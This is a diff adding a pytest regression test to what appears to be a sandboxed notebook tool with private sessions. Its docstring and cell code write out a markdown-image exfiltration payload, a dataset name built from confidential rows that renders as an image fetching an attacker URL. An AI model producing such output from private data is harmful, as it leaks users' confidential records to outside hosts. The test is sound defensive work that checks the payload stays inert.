@@ -99,6 +99,27 @@ async def test_a_private_sessions_results_render_to_no_fetch(registry: SessionRe
 
 
 @pytest.mark.asyncio
+async def test_a_dataset_name_a_cell_chose_renders_to_no_fetch(registry: SessionRegistry) -> None:
+    """The names of a cell's new datasets are the cell's choice: the privacy
+    line showed them as text, and a private cell built one from its rows
+    (a review: ``![x](//host/p.png?d=<row>)`` rendered as an image)."""
+    kw: dict[str, Any] = {"user_id": "alice", "session_id": "names", "registry": registry}
+    first = (
+        "import sandbox_kernel.private as p\np.add_dataset('crm', 'CONFIDENTIAL')\nopen('rows.csv', 'w').write('ROW42')"
+    )
+    assert "CONFIDENTIAL" in str(await repl_execute_cell(first, **kw))
+    cell = (
+        "import sandbox_kernel.private as p\nrow = open('rows.csv').read()\n"
+        "p.add_dataset('![x](//127.0.0.1:9/p.png?d=' + row + ')', 'CONFIDENTIAL')"
+    )
+    results = [await repl_execute_cell(cell, **kw), await repl_show_cell(1, **kw)]
+    for result in results:
+        text = str(result)
+        assert "ROW42" in text and "--- privacy ---" in text, text  # the name is still there to read
+        _assert_inert(text)
+
+
+@pytest.mark.asyncio
 async def test_a_public_sessions_results_are_not_put_in_code(registry: SessionRegistry) -> None:
     kw: dict[str, Any] = {"user_id": "alice", "session_id": "plain", "registry": registry}
     result = str(await repl_execute_cell("print('hello')", **kw))
